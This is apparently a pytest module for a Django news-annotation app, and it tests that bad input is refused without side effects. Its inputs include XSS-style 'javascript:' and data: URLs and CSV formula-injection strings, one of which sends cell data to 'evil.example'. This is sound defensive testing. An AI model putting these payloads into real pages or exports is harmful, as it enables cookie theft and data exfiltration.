"""Bad input gets a clear 4xx (or a one-line import error) and changes nothing: never a 500,
a traceback, a link that runs script, or a CSV cell that runs as a formula.

The cases of README's "Bad input and what it gets" table that issue 11 added, across the
doors they come through (browser, API, import commands).
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.core.exceptions import ValidationError
from django.core.management import CommandError, call_command
from django.urls import reverse
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from annotate.api.parsers import MAX_JSON_DEPTH, json_depth
from annotate.export import CSV_FORMULA_NOTE, ExportSpec, csv_cell, export_stream
from annotate.models import MAX_OVERLAP, Annotation, AnnotationEvent, Article, Sentence, Target, is_http_url
from annotate.queue.record import annotation_record
from annotate.splits import parse_seed
from tests.factories import ArticleFactory, SentenceFactory, api_client, target_settings
from tests.records import snapshot

pytestmark = pytest.mark.django_db

HUGE_ID = 10**20  # past a signed 64-bit column
ARTICLE = {"title": "Britain weighs Huawei", "body": "Ministers met. They decided nothing."}


@pytest.fixture
def ann(annotator) -> APIClient:
    return api_client(annotator)


@pytest.fixture
def boss(admin_user) -> APIClient:
    return api_client(admin_user)


def everything() -> tuple[object, ...]:
    """Every row a refused request or import could have written."""
    return (
        *snapshot(),
        list(Article.objects.order_by("id").values()),
        list(Sentence.objects.order_by("id").values()),
        list(Target.objects.order_by("id").values()),
        list(Token.objects.order_by("key").values_list("key", flat=True)),
        list(get_user_model().objects.order_by("id").values_list("username", flat=True)),
    )


def streamed(response) -> str:
    return b"".join(response.streaming_content).decode()


def write(folder: Path, name: str, content: str) -> Path:
    path = folder / name
    path.write_text(content, encoding="utf-8")
    return path


# Article URLs: http(s) only ------------------------------------------------------------

BAD_URLS = [
    "javascript:alert(document.cookie)",
    "JavaScript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "http://",
    "https://exa mple.com/",
]


@pytest.mark.parametrize("url", ["http://example.com/a?b=1#c", "HTTPS://example.com", "https://例え.jp/記事"])
def test_an_http_url_is_an_http_url(url):
    assert is_http_url(url)


@pytest.mark.parametrize("url", [*BAD_URLS, "http://example.com/\n", " http://example.com/"])
def test_a_script_or_data_url_is_not_an_http_url(url):
    assert not is_http_url(url)


@pytest.mark.parametrize("url", BAD_URLS)
def test_the_api_refuses_an_article_url_that_is_not_http_and_stores_nothing(boss, url):
    before = everything()
    response = boss.post("/api/articles/", {**ARTICLE, "url": url}, format="json")
    assert response.status_code == 400
    assert response.json()["detail"] == "url: Must be an http(s) URL."
    assert everything() == before


def test_the_api_stores_an_http_url_and_a_blank_one(boss):
    first = boss.post("/api/articles/", {**ARTICLE, "url": "https://example.com/a"}, format="json")
    second = boss.post("/api/articles/", {**ARTICLE, "body": "Other.", "url": ""}, format="json")
    assert (first.status_code, second.status_code) == (201, 201)
    assert sorted(Article.objects.values_list("url", flat=True)) == ["", "https://example.com/a"]


@pytest.mark.parametrize("url", BAD_URLS)
def test_an_import_file_with_a_url_that_is_not_http_is_refused_naming_the_line(tmp_path, url):
    good = json.dumps({"title": "A", "body": "Fine.", "url": "https://example.com/"})
    bad = json.dumps({"title": "B", "body": "Also fine.", "url": url})
    path = write(tmp_path, "articles.jsonl", f"{good}\n{bad}\n")
    with pytest.raises(CommandError) as caught:
        call_command("import_articles", str(path))
    assert str(caught.value) == f"{path}:2: 'url' must be an http(s) URL"
    assert Article.objects.count() == 0


def test_the_article_page_does_not_link_a_stored_javascript_url(annotator_client):
    # Stored before imports checked URLs: the page must still not make it a link.
    article = ArticleFactory(url="javascript:alert(document.cookie)")
    page = annotator_client.get(reverse("article-detail", args=[article.pk])).content.decode()
    assert "javascript:" not in page
    assert ">original</a>" not in page


def test_the_article_page_links_an_http_url(annotator_client):
    article = ArticleFactory(url="https://example.com/story")
    page = annotator_client.get(reverse("article-detail", args=[article.pk])).content.decode()
    assert '<a href="https://example.com/story" rel="noopener noreferrer">original</a>' in page


# CSV export: no cell runs as a formula -------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example","click")', '\'=HYPERLINK("http://evil.example","click")'),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Huawei = risk", "Huawei = risk"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_a_csv_cell_that_a_spreadsheet_would_run_gets_a_quote_before_it(value, cell):
    assert csv_cell(value) == cell


def test_the_csv_export_neutralises_formulas_and_the_jsonl_export_keeps_the_text(annotator, huawei):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Read more")'
    article = ArticleFactory(title="@Breaking", source="-Wire", body=f"{formula}\n")
    sentence = SentenceFactory(article=article, text=formula, position=0, start=0, end=len(formula))
    annotation_record(annotator=annotator, sentence=sentence, target=huawei, label="pro")

    csv_text = "".join(export_stream(ExportSpec(target=huawei, level="annotations", format="csv")))
    jsonl_text = "".join(export_stream(ExportSpec(target=huawei, level="annotations", format="jsonl")))

    [row] = list(csv.DictReader(io.StringIO(csv_text)))
    assert (row["text"], row["title"], row["source"]) == (f"'{formula}", "'@Breaking", "'-Wire")
    [record] = [json.loads(line) for line in jsonl_text.splitlines()]
    assert (record["text"], record["title"], record["source"]) == (formula, "@Breaking", "-Wire")


def test_the_api_csv_export_neutralises_formulas(boss, annotator, huawei):
    article = ArticleFactory(body="=1+1\n")
    sentence = SentenceFactory(article=article, text="=1+1", position=0, start=0, end=4)
    annotation_record(annotator=annotator, sentence=sentence, target=huawei, label="pro")
    rows = list(csv.DictReader(io.StringIO(streamed(boss.get("/api/export/?format=csv")))))
    assert [row["text"] for row in rows] == ["'=1+1"]


def test_the_card_of_a_csv_export_says_how_formulas_are_neutralised(admin_client_, huawei):
    card = admin_client_.get(reverse("export-card", args=[huawei.pk]), {"format": "csv"}).content.decode()
    assert CSV_FORMULA_NOTE in card
    jsonl_card = admin_client_.get(reverse("export-card", args=[huawei.pk])).content.decode()
    assert CSV_FORMULA_NOTE not in jsonl_card


# Deeply nested JSON bodies ---------------------------------------------------------------


def deep(levels: int) -> str:
    return '{"label": ' * levels + '"pro"' + "}" * levels


WRITES = [
    ("ann", "post", "/api/annotations/"),
    ("ann", "patch", "/api/annotations/{annotation}/"),
    ("ann", "post", "/api/annotations/undo/"),
    ("boss", "post", "/api/articles/"),
    ("boss", "post", "/api/tokens/"),
]


@pytest.mark.parametrize("body", [deep(5000), "[" * 5000 + "]" * 5000, deep(MAX_JSON_DEPTH + 1)])
@pytest.mark.parametrize(("persona", "method", "url"), WRITES)
def test_a_deeply_nested_body_is_a_400_on_every_write_and_changes_nothing(
    request, annotator, huawei, sentences, persona, method, url, body
):
    annotation = annotation_record(
        annotator=annotator, sentence=sentences[0], target=huawei, label="pro"
    ).annotation
    client = request.getfixturevalue(persona)
    before = everything()

    response = getattr(client, method)(
        url.format(annotation=annotation.pk), body, content_type="application/json"
    )

    assert response.status_code == 400
    assert response.json()["detail"] == f"JSON parse error - nested deeper than {MAX_JSON_DEPTH} levels."
    assert everything() == before


def test_a_body_as_deep_as_the_limit_is_parsed(ann, huawei, sentences):
    response = ann.post("/api/annotations/", deep(MAX_JSON_DEPTH - 1), content_type="application/json")
    assert response.status_code == 400
    assert "label: Must be a string." in response.json()["detail"]  # parsed, then read


@pytest.mark.parametrize(
    ("value", "depth"),
    [(1, 0), ([], 1), ({"a": [1, {"b": []}]}, 4), ([[[]], []], 3), (json.loads(deep(40)), 40)],
)
def test_json_depth_counts_nesting(value, depth):
    assert json_depth(value) == depth


# Cursors -------------------------------------------------------------------------------


def cursor(query: str) -> str:
    return base64.b64encode(query.encode()).decode()


@pytest.mark.parametrize(
    "value",
    [
        "garbage",
        "٣",
        cursor("o=x"),
        cursor("p=abc"),
        cursor("p=1.5"),
        cursor(f"p={HUGE_ID}"),
        cursor("o=0&r=0&p=-1"),
    ],
)
def test_a_malformed_cursor_is_a_400_in_json(ann, sentences, value):
    response = ann.get("/api/sentences/", {"cursor": value})
    assert response.status_code == 400
    assert response.json()["detail"] == "cursor: Not a cursor this API handed out: follow `next`."


def test_a_cursor_the_api_handed_out_still_works(ann, sentences):
    first = ann.get("/api/sentences/?page_size=2").json()
    second = ann.get(first["next"])
    assert second.status_code == 200
    assert [row["id"] for row in second.json()["results"]] == [s.id for s in sentences[2:4]]


# Seeds ---------------------------------------------------------------------------------

BAD_SEEDS = ["٣", "\uff13", "²", "1_000", " 7", "7 ", "+7", "1e3", "", "9" * 19, "9" * 5000]


@pytest.mark.parametrize("seed", BAD_SEEDS)
def test_a_seed_is_ascii_digits_only(seed):
    with pytest.raises(ValueError, match="seed must be a whole number of at most 18 digits"):
        parse_seed(seed)


@pytest.mark.parametrize(("seed", "value"), [("0", 0), ("13", 13), ("-7", -7), ("9" * 18, 10**18 - 1)])
def test_a_seed_of_ascii_digits_is_read(seed, value):
    assert parse_seed(seed) == value


@pytest.mark.parametrize("seed", BAD_SEEDS)
@pytest.mark.parametrize("name", ["export", "export-card"])
def test_the_export_and_the_card_refuse_a_seed_that_is_not_ascii_digits(admin_client_, huawei, name, seed):
    response = admin_client_.get(reverse(name, args=[huawei.pk]), {"split": "1", "seed": seed})
    assert response.status_code == 400
    assert response.content.decode().startswith("seed must be a whole number of at most 18 digits")


@pytest.mark.parametrize("seed", BAD_SEEDS)
def test_the_api_export_refuses_a_seed_that_is_not_ascii_digits(boss, huawei, seed):
    response = boss.get("/api/export/", {"split": "true", "seed": seed})
    assert response.status_code == 400
    assert response.json()["detail"].startswith("seed: ")


# Ids past 64 bits ------------------------------------------------------------------------

ID_ROUTES = [
    ("get", "label"),
    ("post", "label-submit"),
    ("post", "label-undo"),
    ("post", "annotation-relabel"),
    ("get", "article-detail"),
    ("get", "adjudicate"),
    ("post", "adjudicate-settle"),
    ("get", "dashboard"),
    ("get", "models"),
    ("post", "model-retrain"),
    ("post", "queue-settings"),
    ("get", "export"),
    ("get", "export-card"),
]


@pytest.mark.parametrize(("method", "name"), ID_ROUTES)
def test_an_id_past_64_bits_in_a_path_is_a_404_and_changes_nothing(
    admin_client_, huawei, sentences, method, name
):
    url = reverse(name, args=[1]).replace("/1/", f"/{HUGE_ID}/")
    data = {"sentence": sentences[0].pk, "label": "pro", "overlap": 3} if method == "post" else {}
    before = everything()
    assert getattr(admin_client_, method)(url, data).status_code == 404
    assert everything() == before


def test_an_id_of_18_digits_is_still_an_id(annotator_client, huawei):
    assert annotator_client.get(f"/label/{10**18 - 1}/").status_code == 404
    assert reverse("label", args=[10**18 - 1]) == f"/label/{10**18 - 1}/"


@pytest.mark.parametrize("sentence", [str(2**63), str(HUGE_ID), "9" * 400])
@pytest.mark.parametrize("name", ["label-submit", "adjudicate-settle"])
def test_a_sentence_id_past_64_bits_in_a_form_is_a_400_and_changes_nothing(
    admin_client_, annotator_client, huawei, sentence, name
):
    before = everything()
    client = annotator_client if name == "label-submit" else admin_client_  # who may post each
    response = client.post(reverse(name, args=[huawei.pk]), {"sentence": sentence, "label": "pro"})
    assert response.status_code == 400
    assert (
        "sentence: Ensure this value is less than or equal to 9223372036854775807."
        in response.content.decode()
    )
    assert everything() == before


# Overlap ---------------------------------------------------------------------------------

# Everything but the overlap, which each test posts.
QUEUE_SETTINGS = {name: value for name, value in target_settings().items() if name != "overlap"}


@pytest.mark.parametrize("overlap", [0, MAX_OVERLAP + 1, 40_000, 10**20])
def test_queue_settings_refuse_an_overlap_outside_1_to_50_and_change_nothing(admin_client_, huawei, overlap):
    before = everything()
    response = admin_client_.post(
        reverse("queue-settings", args=[huawei.pk]), {**QUEUE_SETTINGS, "overlap": overlap}
    )
    assert response.status_code == 400
    assert everything() == before


def test_queue_settings_take_the_largest_overlap(admin_client_, huawei):
    response = admin_client_.post(
        reverse("queue-settings", args=[huawei.pk]), {**QUEUE_SETTINGS, "overlap": 50}
    )
    assert response.status_code == 302
    huawei.refresh_from_db()
    assert huawei.overlap == MAX_OVERLAP


def test_the_admin_refuses_an_overlap_past_the_maximum(admin_client_, huawei):
    url = reverse("admin:annotate_target_change", args=[huawei.pk])
    form = {"name": huawei.name, "description": "", "guidelines": "", **QUEUE_SETTINGS, "overlap": 51}
    before = everything()
    response = admin_client_.post(url, form)
    assert response.status_code == 200  # the form again, with its error
    assert f"Overlap must be from 1 to {MAX_OVERLAP}." in response.content.decode()
    assert everything() == before


def test_a_target_with_an_overlap_past_the_maximum_does_not_validate(huawei):
    huawei.overlap = MAX_OVERLAP + 1
    with pytest.raises(ValidationError, match=f"Overlap must be from 1 to {MAX_OVERLAP}"):
        huawei.full_clean()


# Import files: what the database cannot store --------------------------------------------


def article_line(**fields: object) -> str:
    return json.dumps({"title": "A title", "body": "A body.", **fields})


@pytest.mark.parametrize(
    ("line", "message"),
    [
        (article_line(title="x" * 501), "'title' is longer than 500 characters"),
        (article_line(source="x" * 201), "'source' is longer than 200 characters"),
        (article_line(url="https://example.com/" + "x" * 990), "'url' is longer than 1000 characters"),
        (article_line(body="Before\u0000after."), "NUL character in 'body'"),
        (article_line(title="A\u0000title"), "NUL character in 'title'"),
        (article_line(source="\u0000"), "NUL character in 'source'"),
        (article_line(body="Half a pair \ud800 here."), "'body' is not valid Unicode (a lone surrogate)"),
    ],
)
def test_an_article_field_the_database_cannot_store_is_a_one_line_error_and_nothing_is_written(
    tmp_path, line, message
):
    path = write(tmp_path, "articles.jsonl", article_line(body="A good one.") + "\n" + line + "\n")
    before = everything()
    with pytest.raises(CommandError) as caught:
        call_command("import_articles", str(path))
    assert str(caught.value) == f"{path}:2: {message}"
    assert everything() == before


def test_a_title_of_500_characters_is_stored_whole(tmp_path):
    path = write(tmp_path, "articles.jsonl", article_line(title="x" * 500) + "\n")
    call_command("import_articles", str(path))
    assert Article.objects.get().title == "x" * 500


def test_a_txt_first_line_too_long_for_a_title_stays_in_the_body(tmp_path):
    first = " ".join(["https://example.com/" + "x" * 100] * 6)  # 6 words, 726 characters
    path = write(tmp_path, "long.txt", f"{first}\nThe story itself.\n")
    call_command("import_articles", str(path))
    article = Article.objects.get()
    assert article.body == f"{first}\nThe story itself."
    assert len(article.title) <= 101


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({**ARTICLE, "title": "x" * 501}, "title: Ensure this field has no more than 500 characters."),
        ({**ARTICLE, "body": "Before\u0000after."}, "body: Must hold more than whitespace, and no NUL."),
        ({**ARTICLE, "title": "A\u0000title"}, "title: Must hold more than whitespace, and no NUL."),
        ({**ARTICLE, "body": "Half \ud800 a pair."}, "body: Must be valid Unicode (no lone surrogate)."),
        ({**ARTICLE, "source": "\udfff"}, "source: Must be valid Unicode (no lone surrogate)."),
    ],
)
def test_the_api_refuses_an_article_field_the_database_cannot_store(boss, data, message):
    before = everything()
    response = boss.post("/api/articles/", json.dumps(data), content_type="application/json")
    assert response.status_code == 400
    assert message in response.json()["detail"]
    assert everything() == before


def test_the_api_refuses_a_username_with_a_lone_surrogate(boss):
    response = boss.post("/api/tokens/", '{"username": "\\ud800"}', content_type="application/json")
    assert response.status_code == 400
    assert response.json()["detail"] == "username: Must be valid Unicode (no lone surrogate)."


# Label import files ----------------------------------------------------------------------


def import_labels(path: Path) -> None:
    call_command(
        "import_labels", str(path), "--target", "Huawei", "--annotator", "semeval", stdout=io.StringIO()
    )


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        (
            "big.csv",
            "text,label\nFine.,pro\n" + '"' + "x" * 200_000 + '",pro\n',
            ":3: malformed CSV: field larger than 131,072 characters",
        ),
        (
            "cr.csv",
            "text,label\nFine.,pro\nA\rB,pro\n",
            ":3: malformed CSV: a carriage return inside an unquoted field (quote the field)",
        ),
        (
            "nul.jsonl",
            '{"text": "Fine.", "label": "pro"}\n{"text": "A\\u0000B", "label": "pro"}\n',
            ":2: NUL character in 'text'",
        ),
        (
            "pair.jsonl",
            '{"text": "Fine.", "label": "pro"}\n{"text": "A\\ud800B", "label": "pro"}\n',
            ":2: 'text' is not valid Unicode (a lone surrogate)",
        ),
    ],
)
def test_a_label_file_the_database_cannot_store_is_a_one_line_error_and_nothing_is_written(
    huawei, tmp_path, name, content, message
):
    path = write(tmp_path, name, content)
    before = everything()
    with pytest.raises(CommandError, match=f"^{re.escape(str(path) + message)}") as caught:
        import_labels(path)
    assert "\n" not in str(caught.value)
    assert everything() == before
    assert not Annotation.objects.exists() and not AnnotationEvent.objects.exists()


def test_import_articles_refuses_a_source_option_longer_than_its_column(tmp_path, huawei):
    (tmp_path / "a.txt").write_text("Huawei and 5G\n\nMinisters met. They decided nothing.\n")
    before = everything()
    with pytest.raises(CommandError, match="--source must be at most 200 characters"):
        call_command("import_articles", str(tmp_path / "a.txt"), "--source", "x" * 201)
    assert everything() == before


def test_import_labels_refuses_an_annotator_name_longer_than_a_username(tmp_path, huawei):
    (tmp_path / "labels.csv").write_text("text,label\nMinisters met.,pro\n")
    before = everything()
    with pytest.raises(CommandError, match="--annotator must be a username of at most 150 characters"):
        call_command(
            "import_labels", str(tmp_path / "labels.csv"), "--target", huawei.name, "--annotator", "a" * 151
        )
    assert everything() == before
